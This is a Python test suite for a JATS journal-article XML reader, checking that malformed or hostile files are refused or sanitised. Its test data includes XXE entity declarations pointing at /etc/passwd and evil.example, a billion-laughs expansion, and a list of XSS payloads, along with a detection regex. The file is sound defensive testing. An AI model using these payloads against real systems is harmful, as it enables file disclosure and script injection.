"""Promise: no file, however made, runs, loads, blows up or crashes anything: it is read safely or refused with a line."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scicomm.journals.rules.jats import JatsReason, JatsRefused, read_article, read_article_file
from scicomm.journals.rules.jats.source import MAX_DEPTH

PAIR = Path(__file__).parent / "data" / "pair.xml"
META = (
    "<front><article-meta><article-id pub-id-type='doi'>10.1000/x</article-id>"
    "<title-group><article-title>{title}</article-title></title-group></article-meta></front>"
)


def article(inner: str = "", *, before: str = "", title: str = "T") -> bytes:
    return f"{before}<article>{META.format(title=title)}<body>{inner}</body></article>".encode()


def refused(data: bytes) -> JatsRefused:
    with pytest.raises(JatsRefused) as caught:
        read_article(data, name="a.xml")
    assert caught.value.file == "a.xml"
    assert caught.value.message
    return caught.value


LAUGHS = '\n<!DOCTYPE article [\n<!ENTITY a "ha">\n<!ENTITY b "&a;&a;&a;&a;&a;&a;">\n]>\n'


@pytest.mark.parametrize(
    ("before", "line"),
    [
        (LAUGHS, 3),
        ('<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 1),
        ('<!DOCTYPE article [\n<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>', 2),
        ("<!DOCTYPE article [\n\n%remote;]>", 3),
        ('<!DOCTYPE article [<!ENTITY % p SYSTEM "a.dtd">\n%q;]>', 2),
        ('<!DOCTYPE article [<!ENTITY % p "inside">]>', 1),
        ('<!DOCTYPE article [<!ENTITY % p SYSTEM "http://evil.example/nlm.nih.gov/p.dtd">]>', 1),
        ('<!DOCTYPE article [<!ENTITY % p SYSTEM "file:///etc/x.dtd">]>', 1),
        ("<!DOCTYPE article [<!-- ' --> <?x ' ?> <!ATTLIST p a CDATA '>]'>\n<!ENTITY x 'y'>]>", 2),
        ('<!DOCTYPE a>\n<!DOCTYPE article [<!ENTITY x "y">]>', 2),
    ],
)
def test_declared_entities_are_refused_with_their_line(before: str, line: int) -> None:
    refusal = refused(article("<p>&x;</p>", before=before))
    assert (refusal.reason_code, refusal.line) == (JatsReason.ENTITY_DECLARED, line)


def test_declarations_that_can_do_nothing_are_passed_over() -> None:
    """Springer names the DTDs in its answers; NLM 2 declared its pictures as unparsed entities. None of it is loaded."""
    before = """<!DOCTYPE response [
<!ENTITY % article SYSTEM "http://jats.nlm.nih.gov/archiving/1.2/JATS-archivearticle1.dtd"> %article;
<!ENTITY % chars PUBLIC "-//NLM//DTD X//EN" 'chars.ent'>
<!ENTITY fig1 SYSTEM "fig1.gif" NDATA gif>
]>"""
    assert read_article(article("<p>a&alpha;</p>", before=before), name="a.xml").body_html == "<p>aα</p>"
    refusal = refused(article("<p>&fig1;</p>", before=before))
    assert refusal.reason_code == JatsReason.ENTITY_UNKNOWN


def test_external_dtd_and_xinclude_are_never_fetched(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("geheim")
    before = f'<!DOCTYPE article PUBLIC "-//X//DTD v1.1//EN" "{secret.as_uri()}">\n<?xml-stylesheet href="x"?>'
    inner = f'<p>a<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>b</p>'
    assert read_article(article(inner, before=before), name="a.xml").body_html == "<p>ab</p>"


def test_character_names_of_the_dtds_are_known_without_a_dtd() -> None:
    parsed = read_article(
        article("<p title='&eacute;'>&Eacute;&nbsp;&agr;&alpha; &amp;lt; <![CDATA[&alpha;]]><!-- &nonsense; --></p>"),
        name="a.xml",
    )
    assert parsed.body_text == "É αα &lt; &alpha;"


def test_a_name_that_stands_for_markup_makes_none() -> None:
    parsed = read_article(article("<p>&LT;script&gt;x&nvlt;&AMP;</p>"), name="a.xml")
    assert "<script" not in parsed.body_html
    assert parsed.body_text.startswith("<script>x<")


def test_unknown_names_are_refused_with_their_line() -> None:
    refusal = refused(article("<p>a\n\n&frobnicate;</p>"))
    assert (refusal.reason_code, refusal.line) == (JatsReason.ENTITY_UNKNOWN, 3)
    assert "frobnicate" in refusal.message


ATTACKS = [
    "<script>alert(1)</script>",
    '<p onclick="alert(1)" style="x:expression(1)">a</p>',
    '<ext-link xlink:href="javascript:alert(1)">a</ext-link>',
    '<ext-link xlink:href=" java&#10;script:alert(1)">a</ext-link>',
    '<ext-link xlink:href="data:text/html,&lt;script&gt;1&lt;/script&gt;">a</ext-link>',
    '<uri xlink:href="vbscript:x">a</uri>',
    '<xref rid="&quot; onmouseover=&quot;alert(1)">a</xref>',
    '<sec id="x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"><title>t</title></sec>',
    "&lt;img src=x onerror=alert(1)&gt;",
    '<iframe src="https://evil.example"/>',
    '<h:a xmlns:h="http://www.w3.org/1999/xhtml" href="javascript:alert(1)">a</h:a>',
    '<mml:math><mml:mi xlink:href="javascript:alert(1)" href="javascript:alert(1)">x</mml:mi></mml:math>',
    "<mml:math><mml:annotation-xml encoding='text/html'><script>alert(1)</script></mml:annotation-xml></mml:math>",
    "<mml:math><mml:mtext>&lt;/math&gt;&lt;img src=x onerror=alert(1)&gt;</mml:mtext></mml:math>",
    '<graphic xlink:href="javascript:alert(1)"><alt-text>"&gt;&lt;script&gt;</alt-text></graphic>',
    "<svg:svg xmlns:svg='http://www.w3.org/2000/svg'><svg:script>alert(1)</svg:script></svg:svg>",
    '<styled-content style="background:url(javascript:alert(1))">a</styled-content>',
    "<email>javascript:alert(1)//a@b.cd</email>",
]
ACTIVE = re.compile(
    r"<(?:script|iframe|img|svg|object|embed|style|form|input|link|base|meta)\b"
    r"|<[^>]*\s(?:on\w+|style|src|srcdoc|action|xlink:href)\s*="
    r"|href=\"(?!https?:|ftp:|mailto:|#)",
    re.IGNORECASE,
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_survives_anywhere(attack: str) -> None:
    parts = (
        f"<article><front><article-meta><article-id pub-id-type='doi'>10.1000/x</article-id><title-group><article-title>"
        f"T {attack}</article-title></title-group><contrib-group><contrib><name><surname>A</surname></name><bio>{attack}"
        f"</bio></contrib></contrib-group><author-notes>{attack}</author-notes><abstract>{attack}</abstract>"
        f"</article-meta></front><body>{attack}<p>{attack}</p><fig><caption>{attack}</caption></fig></body><back><ack>"
        f"{attack}</ack><ref-list><ref><mixed-citation>{attack}</mixed-citation></ref></ref-list></back></article>"
    )
    parsed = read_article(parts.encode(), name="a.xml")
    htmls = [parsed.body_html, parsed.back_html, parsed.author_notes_html, *parsed.titles_html.values()]
    htmls += [one.html for one in parsed.abstracts.values()] + [one.html for one in parsed.references]
    htmls += [one.biography_html for one in parsed.contributors]
    for html in htmls:
        # Quoted attribute values may hold any text; only what is outside them is markup.
        assert not ACTIVE.search(re.sub(r'(aria-label|data-href|id|data-type)="[^"]*"', r"\1", html)), html


def test_file_size_is_checked_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    with path.open("wb") as stream:
        stream.truncate(200 * 1024 * 1024)  # sparse: costs no disk
    with pytest.raises(JatsRefused) as caught:
        read_article_file(path)
    assert caught.value.reason_code == JatsReason.TOO_LARGE
    assert caught.value.params["size"] == 200 * 1024 * 1024
    with pytest.raises(JatsRefused):
        read_article(article("x" * 100), name="a.xml", max_bytes=99)


def test_a_missing_file_is_refused_by_name(tmp_path: Path) -> None:
    with pytest.raises(JatsRefused) as caught:
        read_article_file(tmp_path / "none.xml")
    assert (caught.value.reason_code, caught.value.file) == (JatsReason.UNREADABLE, "none.xml")


@pytest.mark.parametrize("tag", ["sec", "italic", "list", "p", "mml:mrow", "unheard-of", "sub-article"])
@pytest.mark.parametrize("depth", [MAX_DEPTH, 250, 100_000])
def test_deep_nesting_is_refused(tag: str, depth: int) -> None:
    refusal = refused(article("\n" + f"<{tag}>" * depth + f"</{tag}>" * depth))
    assert (refusal.reason_code, refusal.line) == (JatsReason.TOO_DEEP, 2)


def test_the_deepest_that_is_allowed_is_read() -> None:
    for tag in ("sec", "p", "disp-quote", "list-item", "fig", "boxed-text"):
        depth = MAX_DEPTH - 3
        inner = f"<{tag}>" * depth + "x" + f"</{tag}>" * depth
        assert read_article(article(inner), name="a.xml").body_text == "x"


ZH = "湿地研究的新进展"


@pytest.mark.parametrize(
    ("declared", "codec"),
    [("GB2312", "gb18030"), ("gbk", "gbk"), ("GB18030", "gb18030"), ("Big5", "big5"), ("UTF-8", "utf-8-sig"),
     ("UTF-16", "utf-16"), ("UTF-16LE", "utf-16-le"), ("UTF-16BE", "utf-16-be"), ("utf-8", "utf-8")],
)  # fmt: skip
def test_declared_encodings_are_honoured(declared: str, codec: str) -> None:
    title = ZH if codec != "big5" else "濕地"
    text = article(before=f'<?xml version="1.0" encoding="{declared}"?>\n', title=title).decode()
    assert read_article(text.encode(codec), name="a.xml").titles == {"zh": title}


def test_wrong_encodings_are_refused_with_the_line() -> None:
    text = article(before='<?xml version="1.0" encoding="UTF-8"?>\n\n', title=ZH).decode()
    refusal = refused(text.encode("gbk"))
    assert (refusal.reason_code, refusal.line) == (JatsReason.ENCODING_WRONG, 3)
    refusal = refused(article(before='<?xml version="1.0" encoding="UTF-16"?>'))
    assert refusal.reason_code == JatsReason.ENCODING_WRONG
    for name in ("utf-7", "idna", "rot13", "x-user-defined"):
        refusal = refused(article(before=f'<?xml version="1.0" encoding="{name}"?>'))
        assert refusal.reason_code == JatsReason.ENCODING_UNKNOWN


@pytest.mark.parametrize(
    ("data", "reason", "line"),
    [
        (b"", JatsReason.EMPTY, 1),
        (b" \n ", JatsReason.EMPTY, 1),
        (b"not xml at all", JatsReason.XML_TRUNCATED, 1),
        (article("<p>\n<b>x</p>"), JatsReason.XML_BROKEN, 2),
        (article("<p>\nabc")[:-20], JatsReason.XML_TRUNCATED, 2),
        (b"<html><body/></html>", JatsReason.NOT_JATS, 1),
        (b"\n<article><front/></article>", JatsReason.NO_METADATA, 2),
        (article().replace(b"10.1000/x", b"none"), JatsReason.NO_DOI, 1),
        (article(title="<xref/> "), JatsReason.NO_TITLE, 1),
        (article("<p>\x00</p>"), JatsReason.XML_BROKEN, 1),
    ],
)
def test_broken_files_say_what_and_where(data: bytes, reason: JatsReason, line: int) -> None:
    refusal = refused(data)
    assert refusal.reason_code in {reason, JatsReason.XML_BROKEN}
    if reason not in {JatsReason.XML_TRUNCATED}:
        assert refusal.reason_code == reason
    assert refusal.line == line


def test_a_long_run_of_openings_costs_linear_time() -> None:
    for piece in (b"<!--", b"<![CDATA[", b"<?x ", b"&amp", b"<!DOCTYPE ", b"<", b'<a b="'):
        refused(b"<article>&alpha;" + piece * 300_000)
        refused(piece * 300_000)


def test_undeclared_prefixes_that_the_dtd_fixes_are_understood() -> None:
    parsed = read_article(article('<p><ext-link xlink:href="https://a.example">a</ext-link></p>'), name="a.xml")
    assert 'href="https://a.example"' in parsed.body_html


def test_an_unknown_name_below_a_document_type_is_refused_at_its_own_line() -> None:
    source = b'<!DOCTYPE article PUBLIC "-//NLM//DTD JATS v1.2 20190208//EN" "x.dtd">\n' + article(
        "<p>a</p>\n<p>&nosuch;</p>"
    )
    refusal = refused(source)
    assert refusal.reason_code == JatsReason.ENTITY_UNKNOWN
    assert b"&nosuch;" in source.splitlines()[refusal.line - 1]


SOURCE = PAIR.read_bytes()


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_mutated_file_is_read_or_refused_and_nothing_else(data: st.DataObject) -> None:
    mutated = bytearray(SOURCE)
    for _ in range(data.draw(st.integers(1, 4))):
        start = data.draw(st.integers(0, len(mutated)))
        length = data.draw(st.sampled_from([0, 1, 3, 30, 400]))
        other = data.draw(st.integers(0, len(SOURCE)))
        piece = data.draw(st.one_of(st.binary(max_size=6), st.just(SOURCE[other : other + length])))
        mutated[start : start + length] = piece
    try:
        parsed = read_article(bytes(mutated), name="a.xml")
    except JatsRefused as refusal:
        assert refusal.line >= 0
        assert refusal.message
    else:
        assert parsed.doi


TAGS = sorted(set(re.findall(rb"<([a-z][a-z-]+)", SOURCE)))


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_elements_in_the_wrong_place_are_read_or_refused_and_nothing_else(data: st.DataObject) -> None:
    old, new = data.draw(st.sampled_from(TAGS)), data.draw(st.sampled_from(TAGS))
    mutated = re.sub(rb"(</?)" + old + rb"(?=[\s/>])", rb"\1" + new, SOURCE)
    try:
        parsed = read_article(mutated, name="a.xml")
    except JatsRefused as refusal:
        assert refusal.reason_code != JatsReason.XML_BROKEN
    else:
        assert "<script" not in parsed.body_html
